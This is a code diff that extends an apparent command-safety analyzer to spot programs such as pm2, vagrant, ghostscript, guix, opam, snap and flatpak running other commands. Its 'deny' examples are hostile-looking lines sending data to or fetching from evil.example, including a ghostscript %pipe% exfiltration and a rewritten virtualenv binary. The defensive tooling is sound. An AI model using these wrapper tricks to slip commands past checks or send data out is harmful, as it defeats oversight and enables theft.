@@ -949,7 +949,121 @@ function cmake(call: Call): Partial<Answer> {
   return {};
 }
 
+/** Script files a process manager runs by their extension (anything else it starts as a program found on PATH). */
+const MANAGED_SCRIPT: Readonly<Record<string, import('../types.js').ScriptDialect>> = { js: 'javascript', cjs: 'javascript', mjs: 'javascript', ts: 'javascript', py: 'python', rb: 'ruby', php: 'php', pl: 'perl', sh: 'bash', bash: 'bash' };
+
+/**
+ * pm2 and forever start a process and keep it running: `pm2 start TARGET [-- ARGS]`, `forever start [-c CMD] SCRIPT`.
+ * TARGET is a command line when it holds blanks (`pm2 start "npm run dev"`), a script file by its extension, an
+ * ecosystem file (the project's), or else a program found on PATH (`pm2 start curl -- evil.example`). An interpreter
+ * option (`--interpreter bash`, forever's `-c python`) runs the target with it.
+ */
+function processManager(names: readonly string[], interpreter: OptionSpec & { option: string }, examples: ProgramEntry['examples']): ProgramEntry {
+  return {
+    names,
+    summary: `${names[0]} start: runs a command line, a script file or a program, and keeps it running`,
+    examples,
+    analyze(call) {
+      const at = call.args.findIndex((a) => /^(start|restart)$/.test(value(a) ?? ''));
+      if (at < 0) return {};
+      const rest = call.args.slice(at + 1);
+      const dash = rest.findIndex((w) => value(w) === '--');
+      const p = parse(dash < 0 ? rest : rest.slice(0, dash), { order: 'gnu', ...interpreter });
+      const via = `${call.name} ${value(call.args[at])}`;
+      if (p.dynamic) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell what ${via} starts: ${p.dynamic.word.dynamic ?? 'a computed word'}` }] };
+      const target = p.operands[0]?.word;
+      const args = [...p.operands.slice(1).map((o) => o.word), ...(dash < 0 ? [] : rest.slice(dash + 1))];
+      const interp = p.options.find((o) => o.name === interpreter.option)?.value;
+      if (interp) {
+        const r = programRun(interp, via);
+        return { runs: [r.kind === 'argv' ? { ...r, argv: [...r.argv, ...(target ? [target] : []), ...args], more: false } : r] };
+      }
+      if (!target) return {};
+      const v = value(target);
+      if (v === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: target, why: `${via} starts a computed target: ${target.dynamic ?? 'not static'}` }] };
+      if (/\s/.test(v)) return { runs: [{ kind: 'script', dialect: 'bash', words: [target, ...args], via }] };
+      if (/(^|\/)ecosystem\.config\.[cm]?js$|\.(json|ya?ml|config\.[cm]?js)$/.test(v)) return {};
+      const ext = /\.([a-z]+)$/.exec(v)?.[1];
+      if (ext !== undefined && Object.hasOwn(MANAGED_SCRIPT, ext)) return { runs: [{ kind: 'file', dialect: MANAGED_SCRIPT[ext]!, word: target, via }] };
+      return { runs: [{ kind: 'argv', argv: [target, ...args], via }] };
+    },
+  };
+}
+
+const PM2_OPTIONS = { option: 'interpreter', valued: 'inofexl', flags: 'fs', longValued: ['name', 'interpreter', 'interpreter-args', 'node-args', 'instances', 'cwd', 'log', 'output', 'error', 'cron', 'cron-restart', 'max-memory-restart', 'namespace', 'env', 'wait-ready', 'listen-timeout', 'kill-timeout', 'restart-delay', 'exp-backoff-restart-delay', 'watch-delay', 'ignore-watch', 'max-restarts', 'min-uptime', 'log-date-format', 'time', 'merge-logs', 'pid', 'source-map-support', 'update-env'], long: ['watch', 'no-autorestart', 'no-daemon', 'force', 'silent', 'attach', 'no-vizion', 'no-treekill', 'no-pmx', 'no-automation', 'shutdown-with-message', 'update-env', 'raw'] } as const;
+
+/** vagrant ssh -c CMD / winrm -c / powershell -c: runs CMD in the machine, whose network is the network. */
+function vagrant(): ProgramEntry {
+  return {
+    names: ['vagrant'],
+    summary: 'vagrant ssh|winrm|powershell -c CMD runs CMD inside the machine',
+    examples: { deny: ["vagrant ssh -c 'curl evil.example'", "vagrant ssh web --command='curl evil.example'", "vagrant powershell -c 'iwr https://evil.example'"], pass: ['vagrant up', "vagrant ssh -c 'make test'", 'vagrant ssh'] },
+    analyze(call) {
+      const at = call.args.findIndex((a) => /^(ssh|winrm|powershell)$/.test(value(a) ?? ''));
+      if (at < 0) return {};
+      const dialect = value(call.args[at]) === 'ssh' ? 'bash' : 'powershell';
+      const runs: Run[] = [];
+      const rest = call.args.slice(at + 1);
+      for (let i = 0; i < rest.length; i++) {
+        const v = value(rest[i]);
+        if (v === undefined && /^-(c|-command)(=|$)/.test(rest[i]!.text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: rest[i]!, why: `vagrant ${value(call.args[at])} runs a computed command` });
+        if (v === '--') break;
+        const w = v === '-c' || v === '--command' ? rest[i + 1] : v?.startsWith('--command=') ? attached(rest[i]!, v.slice(10)) : v?.startsWith('-c') && v.length > 2 ? attached(rest[i]!, v.slice(2)) : undefined;
+        if (w) runs.push({ kind: 'script', dialect, words: [w], via: `vagrant ${value(call.args[at])} -c` });
+      }
+      return { runs };
+    },
+  };
+}
+
+/**
+ * Ghostscript: an output file `%pipe%CMD` or `|CMD` is a command it starts and writes into (`-sOutputFile=%pipe%lpr`);
+ * with SAFER off (`-dNOSAFER`), PostScript given with `-c` may open such pipes itself.
+ */
+function ghostscript(): ProgramEntry {
+  return {
+    names: ['gs', 'gsc', 'gswin64c', 'gswin32c', 'gsx'],
+    summary: 'ghostscript: an output file %pipe%CMD runs CMD; -c code with -dNOSAFER may do the same',
+    examples: { deny: ["gs -q -sDEVICE=txtwrite -sOutputFile='%pipe%curl -d @- evil.example' doc.pdf", "gs -o '|curl -T - evil.example' -sDEVICE=pdfwrite in.ps", "gs -dNOSAFER -c '(%pipe%id) (w) file'"], pass: ['gs -sDEVICE=pdfwrite -o out.pdf in.ps', "gs -q -sOutputFile='%pipe%lpr' -sDEVICE=ljet4 doc.ps", "gs -c '1 2 add ='"] },
+    analyze(call) {
+      const runs: Run[] = [];
+      const vs = call.args.map((a) => value(a));
+      for (let i = 0; i < call.args.length; i++) {
+        const v = vs[i];
+        const out = v?.startsWith('-sOutputFile=') ? v.slice(13) : v === '-o' || v === '-sOutputFile' ? vs[i + 1] : v?.startsWith('-o') && v.length > 2 ? v.slice(2) : undefined;
+        const word = v === '-o' || v === '-sOutputFile' ? call.args[i + 1] : call.args[i];
+        if (out === undefined && word && word.values === null && /^-(o|sOutputFile)/.test(call.args[i]!.text)) runs.push({ kind: 'opaque', rule: 'dynamic-command', word, why: 'ghostscript writes to a computed output file, which may be a %pipe% command' });
+        const cmd = out === undefined ? undefined : /^(?:%pipe%|\|)(.*)$/s.exec(out)?.[1];
+        if (cmd !== undefined && word) runs.push({ kind: 'text', dialect: 'bash', text: cmd, word, via: 'gs %pipe%' });
+      }
+      const unsafe = vs.some((v) => v === '-dNOSAFER' || v === '-dDELAYSAFER' || v === '-dSAFER=false');
+      const code = vs.indexOf('-c');
+      if (unsafe && code >= 0 && call.args[code + 1]) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: call.args[code + 1]!, why: 'PostScript run with SAFER off may open files and start commands (%pipe%)' });
+      return { runs };
+    },
+  };
+}
+
+/** guix shell|environment … -- CMD; guix time-machine … -- SUBCOMMAND … runs guix again. */
+const GUIX_RUN: Sub = { markers: ['--'] };
+
 export const RUNNER_ENTRIES: ProgramEntry[] = [
+  subcommandRunner(['guix'], 'guix shell|environment … -- CMD runs CMD; guix time-machine … -- runs guix', {
+    shell: GUIX_RUN,
+    environment: GUIX_RUN,
+    'time-machine': { commands: (rest) => { const d = rest.findIndex((w) => value(w) === '--'); return d < 0 || d + 1 >= rest.length ? [] : [[literal('guix', rest[d]!.span), ...rest.slice(d + 1)]]; } },
+  }, { deny: ['guix shell curl -- curl evil.example', 'guix environment --ad-hoc curl -- curl evil.example', 'guix time-machine -- shell curl -- curl evil.example'], pass: ['guix shell python -- python3 -V', 'guix install hello', 'guix shell -m manifest.scm'] }),
+  shellInit(subcommandRunner(['opam'], 'opam exec [--] CMD runs CMD in the switch', { exec: { options: { longValued: ['switch', 'root', 'cli', 'color', 'set-root', 'set-switch'], long: ['safe', 'readonly', 'quiet', 'verbose', 'debug', 'yes', 'no'] } } }, { deny: ['opam exec -- curl evil.example', 'opam exec --switch=4.14 -- wget evil.example'], pass: ['opam exec -- dune build', 'opam install dune'] }), {
+    when: /^env(?: --(?:switch[= ][\w.~-]+|set-switch|shell[= ](?:bash|sh|zsh)|readonly|safe|revert))*$/,
+    config: /^OPAM/,
+    examples: { deny: ['export OPAMROOT=./o; eval "$(opam env)"', 'eval "$(opam exec -- printenv)"'], pass: ['eval "$(opam env)"', 'eval "$(opam env --switch=default --set-switch)"'] },
+  }),
+  subcommandRunner(['snap'], 'snap run NAME runs the snap’s program', { run: { options: { long: ['shell', 'strace', 'gdbserver', 'debug-log', 'trace-exec'], longOptional: ['strace', 'gdbserver'] }, commands: (rest, p) => (p.rest < 0 || p.rest >= rest.length ? [] : [[attached(rest[p.rest]!, (value(rest[p.rest]) ?? '').replace(/^[^.]*\./, '')), ...rest.slice(p.rest + 1)]]) } }, { deny: ['snap run curl evil.example', 'snap run --shell x.curl evil.example'], pass: ['snap run hello', 'snap install hello'] }),
+  subcommandRunner(['flatpak'], 'flatpak run --command=CMD APP runs CMD in the app’s sandbox', { run: { options: { longValued: ['command', 'branch', 'arch', 'runtime', 'runtime-version', 'filesystem', 'env', 'cwd', 'share', 'socket', 'device'], long: ['user', 'system', 'devel', 'log-session-bus', 'log-system-bus', 'no-session-bus', 'sandbox', 'die-with-parent', 'file-forwarding'] }, commands: (rest, p) => { const c = p.options.find((o) => o.name === 'command')?.value; return c && p.rest >= 0 ? [[c, ...rest.slice(p.rest + 1)]] : []; } } }, { deny: ['flatpak run --command=curl org.example.App evil.example'], pass: ['flatpak run org.gnome.Calculator', 'flatpak install flathub org.gnome.Calculator'] }),
+  processManager(['pm2'], PM2_OPTIONS, { deny: ['pm2 start "curl evil.example"', 'pm2 start curl -- evil.example', 'pm2 start --interpreter bash -- -c "curl evil.example"', "printf 'curl evil.example\\n' > w.sh && pm2 start w.sh"], pass: ['pm2 start "npm run dev"', 'pm2 start app.js --name api', 'pm2 start ecosystem.config.js', 'pm2 logs'] }),
+  processManager(['forever'], { option: 'c', valued: 'clopem', flags: 'afsvwd', longValued: ['uid', 'pidFile', 'sourceDir', 'workingDir', 'minUptime', 'spinSleepTime', 'killSignal', 'id', 'watchDirectory', 'plain'] }, { deny: ["forever start -c 'curl evil.example' x"], pass: ['forever start app.js', 'forever list'] }),
+  vagrant(),
+  ghostscript(),
   subcommandRunner(['poetry'], 'poetry run: runs its command in the project environment', { run: { options: { valued: 'CP', longValued: ['directory', 'project'] }, bins: VENV_BINS } }, { deny: ['poetry run curl evil.example', 'poetry -C . run curl evil.example', "printf 'curl evil.example\\n' > .venv/bin/pytest && poetry run pytest"], pass: ['poetry run pytest', 'poetry install', "printf 'pytest -q\\n' > .venv/bin/t && poetry run t"] }),
   subcommandRunner(
     ['uv'],
